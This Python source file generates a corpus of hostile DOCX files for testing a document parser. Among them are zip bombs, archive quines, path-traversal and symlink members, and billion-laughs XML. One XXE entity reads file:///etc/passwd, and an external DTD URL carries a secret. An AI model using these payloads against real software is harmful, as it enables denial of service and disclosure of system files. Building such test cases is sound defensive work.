# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile packages and XML, as DOCX."""
import random
import struct

from archive import Member, archive, deflated, fifield, quine
from cases import MEGA, SECRET, case

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = ('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
         'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
         'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
         '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
         'officedocument.wordprocessingml.document.main+xml"/></Types>')
RELATIONS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
             '2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
             'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
             '</Relationships>')


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def document(body, before=""):
    lead = paragraph(f"Child&#39;s name: Ada {SECRET}")
    return (f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>{lead}{body}'
            '</w:body></w:document>')


def docx(body="", more=(), main=None, before="", **how):
    main = main or Member("word/document.xml", document(body, before), **how)
    return archive([Member("[Content_Types].xml", TYPES), Member("_rels/.rels", RELATIONS), main,
                    *more])


@case("bad-inflates-without-end.docx")
def _():
    return docx(main=Member("word/document.xml", document(" " * (64 * MEGA))))


@case("bad-inflates-to-more-than-it-says.docx")
def _():
    whole = document(paragraph("a" * (64 * MEGA)))
    return docx(main=Member("word/document.xml", whole, size=5000))


@case("bad-unused-member-inflates-without-end.docx")
def _():
    bomb = deflated(b"\0" * (64 * MEGA), 9)
    return docx(more=[Member(f"word/media/{n}.xml", b"", packed=bomb, size=0x7fffffff)
                      for n in range(4)])


@case("bad-overlapping.docx")
def _():
    kernel = Member("word/media/0.xml", b"\0" * (8 * MEGA))
    others = [Member(f"word/media/{n}.xml", b"", packed=kernel.packed, size=kernel.size, at=3)
              for n in range(1, 300)]
    for other in others:
        other.crc = kernel.crc
    return docx(more=[kernel] + others)


@case("any-nested.docx")
def _():
    inner = archive([Member("0.bin", b"\0" * (8 * MEGA))])
    for level in range(6):
        inner = archive([Member(f"{n}.zip", inner) for n in range(10)])
    return docx(more=[Member("word/embeddings/inner.zip", inner)])


@case("bad-says-that-it-holds-itself.docx")
def _():
    # A member whose deflate stream is one stored block that says that it holds the whole archive.
    return docx(main=Member("word/document.xml", SECRET, size=600, stored=600,
                            packed=b"\1" + struct.pack("<HH", 600, 600 ^ 0xffff)))


@case("bad-quine.docx")
def _():
    return quine(b"word/document.xml")


@case("any-quine-inside.docx")
def _():
    return docx(more=[Member("word/embeddings/r.zip", quine(b"r.zip"), method=0)])


@case("bad-quoted-headers.docx")
def _():
    return fifield([Member("[Content_Types].xml", TYPES), Member("_rels/.rels", RELATIONS),
                    Member("word/document.xml", document(paragraph("a")))], 150, 8 * MEGA)


@case("bad-attribute-of-megabytes.docx")
def _():
    noise = random.Random(7).randbytes(3 * MEGA // 4).hex()
    return docx(f'<w:p w:x="{noise}"/>', method=0)


@case("bad-thousands-of-members.docx")
def _():
    return docx(more=[Member(f"word/{n}.xml", b"", method=0) for n in range(12000)])


@case("bad-zip64-lies.docx")
def _():
    extra = struct.pack("<HHQQQ", 1, 24, 1 << 62, 1 << 62, 1 << 61)
    return docx(main=Member("word/document.xml", document(""), size=0xffffffff, stored=0xffffffff,
                            extra=extra))


@case("bad-more-members-than-there-are.docx")
def _():
    return archive([Member("[Content_Types].xml", TYPES),
                    Member("word/document.xml", document(""))], entries=60000)


@case("any-path-leads-outside.docx")
def _():
    return docx(more=[Member(f"../../{SECRET}.txt", SECRET)])


@case("any-absolute-path.docx")
def _():
    return docx(more=[Member(f"/tmp/{SECRET}.txt", SECRET)])


@case("bad-one-name-twice.docx")
def _():
    return docx(more=[Member("word/document.xml", document(paragraph("another")))])


@case("bad-one-name-in-two-cases.docx")
def _():
    return docx(more=[Member("WORD/Document.XML", document(paragraph("another")))])


@case("any-name-with-nul.docx")
def _():
    return docx(more=[Member(b"word/document.xml\0" + SECRET.encode(), SECRET)])


@case("bad-symlink.docx")
def _():
    return docx(main=Member("word/document.xml", f"/etc/passwd{SECRET}", method=0, made_by=0x0314,
                            attributes=0o120777 << 16))


@case("bad-secret-in-a-broken-parts-name.docx")
def _():
    relations = RELATIONS.replace("word/document.xml", f"word/{SECRET}.xml")
    types = TYPES.replace("word/document.xml", f"word/{SECRET}.xml")
    return archive([Member("[Content_Types].xml", types), Member("_rels/.rels", relations),
                    Member(f"word/{SECRET}.xml", document("<w:p>"))])


@case("bad-cut-short.docx")
def _():
    return docx(paragraph("a b c " * 1000))[:700]


@case("bad-billion-laughs.docx")
def _():
    lols = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return docx(paragraph("&l9;"), before=f'<!DOCTYPE w [<!ENTITY l0 "{SECRET}">{lols}]>')


@case("bad-quadratic-entities.docx")
def _():
    return docx(paragraph("&a;" * 50000), before=f'<!DOCTYPE w [<!ENTITY a "{SECRET * 5000}">]>')


@case("bad-external-entity.docx")
def _():
    return docx(paragraph("&x;"),
                before='<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>')


@case("bad-external-dtd.docx")
def _():
    return docx(before=f'<!DOCTYPE w SYSTEM "http://192.0.2.1/{SECRET}.dtd">')


@case("bad-unknown-entity.docx")
def _():
    return docx(paragraph(f"&{SECRET};"))


@case("bad-nested-elements.docx")
def _():
    return docx("<w:ins>" * 200000)


@case("bad-long-attribute.docx")
def _():
    noise = random.Random(7).randbytes(MEGA).hex() * 4
    return docx(f'<w:p w:x="{noise}"/>', method=0)


@case("bad-attribute-without-end.docx")
def _():
    noise = random.Random(7).randbytes(MEGA).hex()
    return docx(f'<w:p w:x="{noise * 32}', method=0)


@case("bad-comment-without-end.docx")
def _():
    noise = random.Random(7).randbytes(MEGA).hex()
    return docx(f"<!-- {SECRET} {noise * 32}", method=0)


@case("bad-many-attributes.docx")
def _():
    return docx("<w:p " + " ".join(f'w:a{n}=""' for n in range(200000)) + "/>", method=0)


@case("bad-many-namespaces.docx")
def _():
    return docx("<w:p " + " ".join(f'xmlns:a{n}="a{n}"' for n in range(100000)) + "/>", method=0)


@case("bad-long-element-name.docx")
def _():
    return docx(f"<{SECRET * MEGA}/>", method=0)


@case("bad-broken-xml.docx")
def _():
    return docx(f"<w:p><{SECRET}></w:p>")


@case("bad-invalid-utf8.docx")
def _():
    whole = document(paragraph("Ada X")).encode().replace(b"X", b"\xc3\x28\xff" + SECRET.encode())
    return docx(main=Member("word/document.xml", whole))


@case("bad-control-characters.docx")
def _():
    return docx(paragraph(f"&#0;&#x1b;[2J{SECRET}"))


@case("bad-endless-paragraph.docx")
def _():
    words = random.Random(7).randbytes(MEGA).hex() * 9
    return docx(paragraph(words), method=0)


@case("bad-endless-runs.docx")
def _():
    return docx("<w:p>" + "<w:r><w:t>a</w:t></w:r>" * 1200000 + "</w:p>", method=0)


@case("any-many-paragraphs.docx")
def _():
    return docx(paragraph("") * 60000, method=0)


@case("any-dense-paragraphs.docx")
def _():
    # Stored, since it would deflate to less than one part in two hundred; so is its copy.
    return docx(paragraph("") * 25000 + "<w:p/>" * 400000, method=0)


@case("any-fields-without-end.docx")
def _():
    # Each paragraph opens a field and closes none.
    return docx(("<w:p>" + '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                 "<w:r><w:instrText>PAGE</w:instrText></w:r></w:p>") * 30000, method=0)


@case("any-bidi.docx")
def _():
    return docx(paragraph(f"Mother: Jane \u202e{SECRET[::-1]}\u202c and \u2066Jane {SECRET}\u2069"))
